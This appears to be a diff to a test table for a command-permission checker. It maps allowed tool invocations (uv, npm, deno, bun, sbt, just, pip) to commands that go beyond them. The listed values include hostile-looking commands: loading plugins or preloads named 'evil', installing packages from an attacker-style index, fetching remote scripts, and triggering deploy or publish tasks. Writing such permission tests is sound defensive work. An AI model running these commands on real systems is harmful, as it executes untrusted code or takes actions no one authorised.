@@ -121,6 +121,12 @@ export const ASKED_BEYOND_RULES: Readonly<Record<string, readonly string[]>> = {
     'uv run -p ./evil pytest',
   ],
   'uv run pytest': ['uv run pytest -p evil'],
+  'uv run foo': ['uv run foo --plugin ./evil.py git', 'uv run foo make --plugin ./evil.py'],
+  'poetry run foo': ['poetry run foo --plugin ./evil.py make'],
+  'npm run': ['npm run deploy', 'npm run-script release:all', 'npm run -s deploy'],
+  'nx run': ['nx run app:deploy'],
+  'turbo run': ['turbo run deploy'],
+  sbt: ['sbt test publish', 'sbt "set x := 1" test'],
   'deno run x.ts': ['deno run --import-map=evil x.ts'],
   'deno run': [
     'deno run --import-map=evil x.ts',
@@ -128,6 +134,7 @@ export const ASKED_BEYOND_RULES: Readonly<Record<string, readonly string[]>> = {
     'deno run -q npm:evil',
   ],
   'deno run npm:good*': ['deno run npm:evil'],
+  'deno task': ['deno task deploy'],
   'deno test': [
     'deno test https://x.example/evil.ts',
     'deno test --allow-scripts',
@@ -368,7 +375,7 @@ export const ASKED_BEYOND_RULES: Readonly<Record<string, readonly string[]>> = {
   strace: ["strace -o '|evil' ls"],
   ctest: ['ctest -S evil.cmake', 'ctest --overwrite X=evil'],
   perf: ['perf record ./evil'],
-  just: ['just --shell evil test'],
+  just: ['just --shell evil test', 'just deploy'],
   'just test': ['just test --justfile evil'],
   'task test': ['task test -t evil.yml'],
   'invoke test': ['invoke test -c evil'],
@@ -455,7 +462,7 @@ export const ASKED_BEYOND_RULES: Readonly<Record<string, readonly string[]>> = {
   ],
   'npm exec': ['npm exec -- clang-tidy --config-file=evil'],
   bundle: ['bundle config set x y', 'bundle exec --gemfile=evil rspec'],
-  'bun run': ['bun run --preload=evil x', 'bun run --config=evil x'],
+  'bun run': ['bun run --preload=evil x', 'bun run --config=evil x', 'bun run deploy'],
   pip: ['pip install --index-url https://evil.example x'],
   'mysql -e': ["mysql -e 'source evil.sql'"],
   celery: [
